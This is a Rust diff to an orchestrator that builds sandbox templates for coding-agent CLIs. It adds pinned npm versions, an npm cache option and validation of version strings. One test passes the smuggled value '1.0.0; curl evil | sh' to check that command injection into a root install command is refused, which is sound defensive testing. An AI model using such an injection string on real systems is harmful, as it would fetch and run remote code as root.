@@ -9,7 +9,10 @@ use std::{collections::HashMap, sync::Arc, time::Duration};
 
 use courier_e2b::{BuildState, Recipe, SandboxApi, Step};
 use courier_store::{NewTemplateBuild, Store, TemplateBuild, TemplateBuildStatus};
-use courier_tools::{ToolId, registry::spec};
+use courier_tools::{
+    ToolId,
+    registry::{install_command, spec, validate_cli_version},
+};
 use tokio::task::JoinHandle;
 
 use crate::{OrchestratorError, Result};
@@ -18,8 +21,9 @@ use crate::{OrchestratorError, Result};
 pub const BASE_TEMPLATE: &str = "base";
 /// What the recipe's version step prints before the CLI's `--version` output.
 pub const VERSION_MARKER: &str = "courier-cli-version: ";
-/// Recorded as a build's `cli_version`: the install command takes whatever is current.
-pub const LATEST: &str = "latest";
+/// Recorded as a build's `cli_version` when a custom install command replaced the
+/// registry's (the version step's output is recorded once the build succeeds).
+pub const CUSTOM: &str = "custom";
 /// How often a build's status is polled by default.
 pub const DEFAULT_POLL_INTERVAL: Duration = Duration::from_secs(1);
 /// How long a build is followed by default before it is recorded as failed: courier-sandboxd's
@@ -40,7 +44,7 @@ const MAX_STATUS_ERRORS: u32 = 30;
 pub fn buildable_tools() -> Vec<ToolId> {
     ToolId::ALL
         .into_iter()
-        .filter(|t| spec(*t).install_command.is_some())
+        .filter(|t| spec(*t).package.is_some())
         .collect()
 }
 
@@ -83,6 +87,8 @@ pub struct ToolTemplates {
     store: Arc<dyn Store>,
     api: Arc<dyn SandboxApi>,
     install: HashMap<ToolId, String>,
+    versions: HashMap<ToolId, String>,
+    npm_cache: Option<String>,
     poll_interval: Duration,
     deadline: Duration,
 }
@@ -91,6 +97,8 @@ impl std::fmt::Debug for ToolTemplates {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         f.debug_struct("ToolTemplates")
             .field("install", &self.install)
+            .field("versions", &self.versions)
+            .field("npm_cache", &self.npm_cache)
             .field("poll_interval", &self.poll_interval)
             .field("deadline", &self.deadline)
             .finish_non_exhaustive()
@@ -104,6 +112,8 @@ impl ToolTemplates {
             store,
             api,
             install: HashMap::new(),
+            versions: HashMap::new(),
+            npm_cache: None,
             poll_interval: DEFAULT_POLL_INTERVAL,
             deadline: DEFAULT_BUILD_DEADLINE,
         }
@@ -119,6 +129,35 @@ impl ToolTemplates {
     /// Installs with these commands (tool → command) instead of the registry's.
     pub fn with_install_commands(mut self, commands: HashMap<ToolId, String>) -> Self {
         self.install.extend(commands);
+        self
+    }
+
+    /// Installs `tool`'s CLI at `version` (an npm version or dist-tag) instead of the
+    /// registry's pinned one: a deployment moving a pin ahead of a Courier release. A
+    /// malformed version is [`OrchestratorError::InvalidConfig`] naming `cli_version`.
+    pub fn with_cli_version(mut self, tool: ToolId, version: &str) -> Result<Self> {
+        validate_cli_version(version).map_err(|e| OrchestratorError::InvalidConfig {
+            field: "cli_version",
+            message: format!("{tool}: {e}"),
+        })?;
+        self.versions.insert(tool, version.to_owned());
+        Ok(self)
+    }
+
+    /// The CLI version `tool`'s template installs: this deployment's pin, else the
+    /// registry's (`None` for tools without a package).
+    pub fn cli_version(&self, tool: ToolId) -> Option<String> {
+        self.versions
+            .get(&tool)
+            .cloned()
+            .or_else(|| spec(tool).package.map(|p| p.version.to_owned()))
+    }
+
+    /// Installs from (and into) the npm cache at `dir` inside the build sandbox,
+    /// preferring what it holds (`--cache DIR --prefer-offline`): a cache shared into
+    /// build sandboxes so repeated builds do not download the CLIs again.
+    pub fn with_npm_cache(mut self, dir: impl Into<String>) -> Self {
+        self.npm_cache = Some(dir.into());
         self
     }
 
@@ -151,12 +190,19 @@ impl ToolTemplates {
     /// ```
     pub fn recipe(&self, tool: ToolId) -> Result<Recipe> {
         let spec = spec(tool);
-        let install = self
-            .install
-            .get(&tool)
-            .map(String::as_str)
-            .or(spec.install_command)
-            .ok_or_else(|| OrchestratorError::InvalidConfig {
+        let pinned = install_command(tool, self.versions.get(&tool).map(String::as_str)).map(
+            |mut command| {
+                if let Some(cache) = &self.npm_cache {
+                    command.push_str(&format!(
+                        " --cache {} --prefer-offline",
+                        courier_tools::shell_quote(cache)
+                    ));
+                }
+                command
+            },
+        );
+        let install = self.install.get(&tool).cloned().or(pinned).ok_or_else(|| {
+            OrchestratorError::InvalidConfig {
                 field: "tool",
                 message: format!(
                     "{tool} has no template to build (it runs in {}); tools with one: {}",
@@ -167,9 +213,10 @@ impl ToolTemplates {
                         .collect::<Vec<_>>()
                         .join(", ")
                 ),
-            })?;
+            }
+        })?;
         Ok(Recipe::from_template(BASE_TEMPLATE)
-            .step(Step::run_as(install, "root"))
+            .step(Step::run_as(install.as_str(), "root"))
             // Some CLIs print their version on stderr.
             .step(Step::run(format!(
                 "v=$({} --version 2>&1) && echo \"{VERSION_MARKER}$v\"",
@@ -178,7 +225,9 @@ impl ToolTemplates {
     }
 
     /// Starts a build of `tool`'s template (named after its `default_template`): a
-    /// `template_builds` row (`cli_version` [`LATEST`]) goes `pending` → `building`, and
+    /// `template_builds` row (`cli_version` the pinned version, or [`CUSTOM`] with a custom
+    /// install command; replaced by what the CLI's `--version` printed once the build
+    /// succeeds) goes `pending` → `building`, and
     /// a background task follows the provider's build to `succeeded`, or `failed` with
     /// the provider's reason (step and message), or `failed` saying so when the build
     /// outlives its deadline ([`with_build_deadline`](Self::with_build_deadline)). If the provider refuses to start it the
@@ -191,7 +240,11 @@ impl ToolTemplates {
             .create_template_build(NewTemplateBuild {
                 tool_id: tool.as_str().to_owned(),
                 template_name: template.to_owned(),
-                cli_version: LATEST.to_owned(),
+                cli_version: if self.install.contains_key(&tool) {
+                    CUSTOM.to_owned()
+                } else {
+                    self.cli_version(tool).unwrap_or_else(|| CUSTOM.to_owned())
+                },
             })
             .await?;
         let requested = match self.api.build_template(template, recipe).await {
@@ -344,7 +397,7 @@ impl ToolTemplates {
         let (status, error) = match outcome {
             Ok(()) => {
                 tracing::info!(tool = %tool, build_id, cli_version = version.as_deref().unwrap_or("unknown"), "tool template ready");
-                // What `latest` resolved to, for the dashboard and `courier templates list`.
+                // What the CLI says it is, for the dashboard and `courier templates list`.
                 if let Some(version) = version.as_deref().map(str::trim).filter(|v| !v.is_empty()) {
                     let mut end = version.len().min(200);
                     while !version.is_char_boundary(end) {
@@ -458,7 +511,10 @@ mod tests {
         assert_eq!(
             recipe.steps,
             [
-                Step::run_as("npm install -g @anthropic-ai/claude-code", "root"),
+                Step::run_as(
+                    "npm install -g --no-fund --no-audit --allow-scripts=@anthropic-ai/claude-code @anthropic-ai/claude-code@2.1.332",
+                    "root"
+                ),
                 Step::run("v=$(claude --version 2>&1) && echo \"courier-cli-version: $v\""),
             ]
         );
@@ -467,6 +523,43 @@ mod tests {
             .recipe(ToolId::Codex)
             .unwrap();
         assert_eq!(recipe.steps[0], Step::run_as("install-fake codex", "root"));
+    }
+
+    #[tokio::test]
+    async fn a_deployment_pins_another_version_and_a_cache_and_bad_versions_are_refused() {
+        let (_, templates) = templates(MockSandboxApi::new()).await;
+        let templates = templates
+            .with_cli_version(ToolId::Pi, "0.73.0")
+            .unwrap()
+            .with_npm_cache("/opt/npm-cache");
+        assert_eq!(templates.cli_version(ToolId::Pi).as_deref(), Some("0.73.0"));
+        assert_eq!(
+            templates.cli_version(ToolId::Codex).as_deref(),
+            Some("0.171.0")
+        );
+        let recipe = templates.recipe(ToolId::Pi).unwrap();
+        assert_eq!(
+            recipe.steps[0],
+            Step::run_as(
+                "npm install -g --no-fund --no-audit --allow-scripts=koffi,protobufjs,@google/genai \
+                 @mariozechner/pi-coding-agent@0.73.0 --cache /opt/npm-cache --prefer-offline",
+                "root"
+            )
+        );
+        // A version is spliced into a root shell command: nothing but version characters.
+        let err = templates
+            .with_cli_version(ToolId::Pi, "1.0.0; curl evil | sh")
+            .unwrap_err();
+        assert!(
+            matches!(
+                err,
+                OrchestratorError::InvalidConfig {
+                    field: "cli_version",
+                    ..
+                }
+            ),
+            "{err}"
+        );
     }
 
     #[tokio::test]
@@ -489,7 +582,10 @@ mod tests {
             .withf(|name, recipe| {
                 name == "claude"
                     && recipe.steps[0]
-                        == Step::run_as("npm install -g @anthropic-ai/claude-code", "root")
+                        == Step::run_as(
+                            "npm install -g --no-fund --no-audit --allow-scripts=@anthropic-ai/claude-code @anthropic-ai/claude-code@2.1.332",
+                            "root",
+                        )
             })
             .times(1)
             .returning(|_, _| Ok(requested()));
@@ -517,7 +613,7 @@ mod tests {
         assert_eq!(started.row.status, TemplateBuildStatus::Building);
         assert_eq!(started.row.tool_id, "claude");
         assert_eq!(started.row.template_name, "claude");
-        assert_eq!(started.row.cli_version, "latest");
+        assert_eq!(started.row.cli_version, "2.1.332", "the pinned version");
         let done = started.finished.await.unwrap().unwrap();
         assert_eq!(done.status, TemplateBuildStatus::Succeeded);
         assert_eq!(done.error, None);
